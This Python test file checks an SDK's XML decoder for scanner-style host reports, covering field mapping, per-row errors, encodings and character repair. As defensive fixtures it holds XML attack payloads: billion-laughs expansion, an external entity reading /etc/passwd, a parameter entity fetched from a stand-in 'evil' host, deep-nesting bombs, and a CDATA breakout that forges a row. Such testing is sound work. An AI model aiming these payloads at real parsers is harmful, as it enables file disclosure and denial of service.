"""Decoding XML: where fields are found, what a bad row costs, and what a hostile document gets."""

from datetime import UTC, datetime
from typing import Annotated
from xml.sax.saxutils import escape

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sdk.decode import decode_xml
from sdk.decode.xml_parser import DocumentParser
from sdk.decode.xml_shape import document_shape
from sdk.errors import UnexpectedResponse


class Score(msgspec.Struct):
    level: str = msgspec.field(name="@severity", default="")
    value: int | None = msgspec.field(name="#text", default=None)


class Detection(msgspec.Struct, rename="upper"):
    qid: Annotated[int, msgspec.Meta(gt=0)]
    results: str | None = None
    port: int | None = None
    is_ignored: bool = False
    qds: Score | None = None


class Host(msgspec.Struct, rename="upper", kw_only=True):
    id: int
    ip: str = ""
    seen: datetime | None = None
    score: float | None = None
    fqdn: str | None = msgspec.field(name="DNS_DATA/FQDN", default=None)
    tags: list[str] = msgspec.field(name="TAGS/TAG/NAME", default_factory=list)
    detections: list[Detection] = msgspec.field(
        name="DETECTION_LIST/DETECTION", default_factory=list
    )


class Envelope(msgspec.Struct):
    code: int | None = msgspec.field(name="RESPONSE/WARNING/CODE", default=None)
    url: str | None = msgspec.field(name="RESPONSE/WARNING/URL", default=None)


PROLOGUE = """<?xml version="1.0" encoding="UTF-8" ?>
<!DOCTYPE LIST SYSTEM "https://vendor.test/list.dtd">
<!-- This report was generated with an evaluation version //-->
"""

HOST = """<HOST>
  <ID>1001</ID> <IP>192.0.2.10</IP> <UNKNOWN><ID>7</ID><DEEP><ID>8</ID></DEEP></UNKNOWN>
  <DNS_DATA><HOSTNAME>web</HOSTNAME><FQDN><![CDATA[web.example.com]]></FQDN></DNS_DATA>
  <SEEN>2026-01-04T01:02:03Z</SEEN><SCORE> 5.5
  </SCORE>
  <!-- keep-alive -->
  <TAGS><TAG><NAME>a</NAME></TAG><TAG><TAG_ID>2</TAG_ID><NAME>b</NAME></TAG></TAGS>
  <DETECTION_LIST>
    <DETECTION><QID>38170</QID><RESULTS><![CDATA[ 1 < 2 ]]> &amp; &#233;</RESULTS><PORT/>
      <IS_IGNORED>1</IS_IGNORED><QDS severity="LOW">35</QDS></DETECTION>
  </DETECTION_LIST>
</HOST>"""


def document(*hosts, warning=""):
    listed = f"<HOST_LIST>{''.join(hosts)}</HOST_LIST>" if hosts else ""
    response = f"<DATETIME>2026-01-05T10:00:00Z</DATETIME>{listed}{warning}"
    return (
        f"{PROLOGUE}<LIST><RESPONSE>{response}</RESPONSE></LIST>\n<!-- CONFIDENTIAL //-->".encode()
    )


def decode(content, *, row="RESPONSE/HOST_LIST/HOST", kind=Host):
    return decode_xml(content, "LIST", envelope=Envelope, row=row, kind=kind)


def refusal(content, **options):
    with pytest.raises(UnexpectedResponse) as raised:
        decode(content, **options)
    assert raised.value.__context__ is None
    return str(raised.value).removeprefix("the body is not the XML that was expected: ")


def test_fields_are_found_by_path_attribute_and_text():
    rows = decode(document(HOST)).rows

    assert rows == [
        Host(
            id=1001,
            ip="192.0.2.10",
            seen=datetime(2026, 1, 4, 1, 2, 3, tzinfo=UTC),
            score=5.5,
            fqdn="web.example.com",
            tags=["a", "b"],
            detections=[
                Detection(38170, " 1 < 2  & é", None, True, Score("LOW", 35)),
            ],
        )
    ]
    assert rows.received == 1


def test_envelope_is_the_document_around_the_rows():
    warning = (
        "<WARNING><CODE>1980</CODE><URL><![CDATA[https://vendor.test/?a=1&b=2]]></URL></WARNING>"
    )

    full, empty = decode(document(HOST, warning=warning)), decode(document(warning=warning))

    assert full.envelope == Envelope(1980, "https://vendor.test/?a=1&b=2")
    assert empty.envelope == full.envelope
    assert (len(full.rows), len(empty.rows)) == (1, 0)


def test_a_document_without_rows_is_an_empty_page():
    found = decode(document())

    assert (found.rows, found.rows.received, found.envelope) == ([], 0, Envelope())


def test_scalars_can_be_rows():
    content = b"<LIST><ID_SET><ID>1</ID><ID> 2 </ID><ID>x</ID><ID/></ID_SET></LIST>"

    rows = decode(content, row="ID_SET/ID", kind=int).rows

    assert rows == [1, 2]
    assert [error.position for error in rows.errors] == ["ID 2 (line 1)", "ID 3 (line 1)"]


def test_text_stays_as_it_is_where_text_is_asked_for():
    rows = decode(b"<LIST><T> a b </T><T/></LIST>", row="T", kind=str).rows

    assert rows == [" a b ", ""]


def test_a_bad_row_is_named_and_the_rest_kept():
    bad = HOST.replace("1001", "secret")
    twice = HOST.replace("<ID>1001", "<ID>1</ID><ID>1001", 1)

    rows = decode(document(HOST, bad, HOST, twice)).rows

    assert len(rows) == 2
    assert rows.received == 4
    assert [(error.position, error.reason) for error in rows.errors] == [
        ("HOST 1 (line 15)", "ID: expected int, got text"),
        ("HOST 3 (line 37)", "ID: expected int, got array"),
    ]


def test_a_bad_item_of_a_list_inside_a_row_does_not_cost_the_row():
    detection = "<DETECTION><QID>{}</QID></DETECTION>"
    listed = "".join(detection.format(qid) for qid in ("1", "secret", "-3", "4"))
    host = f"<HOST><ID>1</ID><DETECTION_LIST>{listed}</DETECTION_LIST></HOST>"

    rows = decode(document(host)).rows

    assert [detection.qid for detection in rows[0].detections] == [1, 4]
    assert rows.received == 1
    assert [(error.position.split("/")[1], error.reason) for error in rows.errors] == [
        ("DETECTION[1]", "QID: expected int, got text"),
        ("DETECTION[2]", "QID: not one of its documented values"),
    ]


def test_many_rows_of_which_none_decodes_are_another_api():
    with pytest.raises(UnexpectedResponse, match="not one of 10 rows"):
        decode(document(*["<HOST><ID>x</ID></HOST>"] * 10))


def test_an_envelope_that_is_not_as_declared_is_a_surprise():
    said = refusal(document(warning="<WARNING><CODE>secret</CODE></WARNING>"))

    assert said == "RESPONSE/WARNING/CODE: expected int or null, got text"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "it breaks off, line 1, column 0"),
        (b"{}", "a character is not allowed there, line 1, column 0"),
        (b"<LIST><RESPONSE>secret", "it breaks off, line 1, column 22"),
        (b"<LIST>\n<RESP", "it breaks off inside a tag, line 2, column 0"),
        (b"<LIST></RESPONSE></LIST>", "an end tag does not match its start tag, line 1, column 8"),
        (b"<LIST/><LIST/>", "something follows the root element, line 1, column 7"),
        (b"<SIMPLE_RETURN/>", "its root is SIMPLE_RETURN, not LIST, line 1, column 16"),
        (b'<?xml version="1.0" encoding="klingon"?><LIST/>', "its encoding is not known"),
        (b'<?xml version="1.0" encoding="utf-7"?><LIST/>', "its encoding is not known"),
        (b"<LIST>&secret;</LIST>", "it uses an entity that is not defined, line 1, column 6"),
    ],
)
def test_unexpected_document_is_named_by_path(content, said):
    assert refusal(content) == said


def test_name_of_a_root_is_cut_at_sixty_characters():
    said = refusal(f"<é{'x' * 500}/>".encode())

    assert said.startswith(f"its root is é{'x' * 59}, not LIST")


@given(st.integers(1, len(document(HOST)) - 30))
def test_a_document_cut_anywhere_is_never_a_short_list(length):
    whole = document(HOST)
    cut = whole[: min(length, whole.index(b"</LIST>") + 6)]

    refusal(cut)


HOSTILE = {
    "billion laughs": b"""<!DOCTYPE LIST [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><LIST>&b;</LIST>""",
    "external entity": b"""<!DOCTYPE LIST [<!ENTITY a SYSTEM "file:///etc/passwd">]><LIST>&a;</LIST>""",
    "parameter entity": b"""<!DOCTYPE LIST [<!ENTITY % a SYSTEM "http://evil/"> %a;]><LIST/>""",
    "default attributes": b"""<!DOCTYPE LIST [<!ATTLIST LIST a CDATA "x">]><LIST/>""",
    "entity of the dtd": b"""<!DOCTYPE LIST SYSTEM "list.dtd"><LIST>&a;</LIST>""",
    "deep": b"<LIST>" + b"<A>" * 1_000_000,
    "deep where it matters": b"<LIST><RESPONSE><WARNING><CODE>" + b"<A>" * 1_000_000,
    "deep and whole": b"<LIST>" + b"<A>" * 500_000 + b"</A>" * 500_000 + b"</LIST>",
    "long text": b"<LIST><RESPONSE><WARNING><URL>" + b"x" * (9 * 2**20),
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_document_is_refused_quickly(content):
    said = refusal(content)

    assert any(word in said for word in ("DOCTYPE", "entity", "nested deeper", "breaks off"))


def test_sixty_four_levels_are_deep_enough():
    def nested(depth):
        return b"<LIST>" + b"<A>" * (depth - 1) + b"</A>" * (depth - 1) + b"</LIST>"

    assert decode(nested(64)).rows == []
    assert "nested deeper than 64" in refusal(nested(65))


def test_a_document_of_more_than_a_million_rows_is_refused():
    node, _ = document_shape(Envelope, "T", str)
    parser = DocumentParser("LIST", node, lambda row, line: None)

    refused = parser.read(b"<LIST>" + b"<T/>" * 1_000_001 + b"</LIST>")

    assert refused.reason.startswith("it has more than 1000000 rows")


def with_results(results):
    host = b"<HOST><ID>1</ID><DETECTION_LIST><DETECTION><QID>1</QID><RESULTS>%b</RESULTS>"
    return document("@").replace(b"@", host % results + b"</DETECTION></DETECTION_LIST></HOST>")


@pytest.mark.parametrize(
    ("results", "text", "repairs"),
    [
        (b"<![CDATA[a\x00\x1b[0mb]]>", "a\ufffd\ufffd[0mb", 2),
        (b"a&#0;b&#x1B;c&#10;d", "a\ufffdb\ufffdc\nd", 2),
        (b"caf\xe9", "caf\ufffd", 1),
        (b"a\xef\xbf\xbfb\xef\xbf\xbd\x01", "a\ufffdb\ufffd\ufffd", 2),
    ],
)
def test_forbidden_characters_are_replaced_and_counted(results, text, repairs):
    found = decode(with_results(results))

    assert found.rows[0].detections[0].results == text
    assert found.repairs == repairs
    assert decode(with_results(b"fine")).repairs == 0


def test_a_repair_cannot_let_a_scanned_host_write_rows():
    injected = b"<![CDATA[]]\x01></RESULTS></DETECTION></DETECTION_LIST></HOST><HOST><ID>2</ID>]]>"

    found = decode(with_results(injected))

    assert [host.id for host in found.rows] == [1]


def test_a_repair_does_not_make_a_broken_document_whole():
    assert "an end tag" in refusal(with_results(b"\x01<b>"))


def test_nothing_is_repaired_in_another_encoding_than_utf_8():
    content = b'<?xml version="1.0" encoding="iso-8859-1"?><LIST>\x01</LIST>'

    assert refusal(content).startswith("a character is not allowed")


def test_a_document_need_not_have_rows():
    found = decode(document(HOST, warning="<WARNING><CODE>1</CODE></WARNING>"), row="", kind=str)

    assert (found.envelope.code, found.rows) == (1, [])


def test_other_encodings_are_read_as_declared():
    head = '<?xml version="1.0" encoding="{}"?><LIST><RESPONSE><WARNING><URL>é</URL></WARNING>'
    text = head + "</RESPONSE></LIST>"

    for encoding in ("iso-8859-1", "windows-1252", "utf-16"):
        assert decode(text.format(encoding).encode(encoding)).envelope.url == "é"


@given(st.lists(st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"]))))
def test_every_text_comes_back(texts):
    listed = "".join(f"<T>{escape(text)}</T>" for text in texts)

    rows = decode(f"<LIST>{listed}</LIST>".encode(), row="T", kind=str).rows

    assert rows == texts


class Careless(msgspec.Struct):
    id: int = msgspec.field(name="ID")

    def __post_init__(self):
        {}[self.id]


def test_mistake_in_a_type_is_no_flaw_of_the_document():
    with pytest.raises(KeyError):
        decode(document(HOST), kind=Careless)


class Mapping(msgspec.Struct):
    inner: dict[str, str]


class Table(msgspec.Struct):
    cells: list[list[int]]


class Tree(msgspec.Struct):
    children: list["Tree"]


@pytest.mark.parametrize("kind", [Mapping, Table, Tree])
def test_type_that_xml_cannot_hold_is_refused(kind):
    with pytest.raises(TypeError):
        decode(b"<LIST/>", kind=kind)
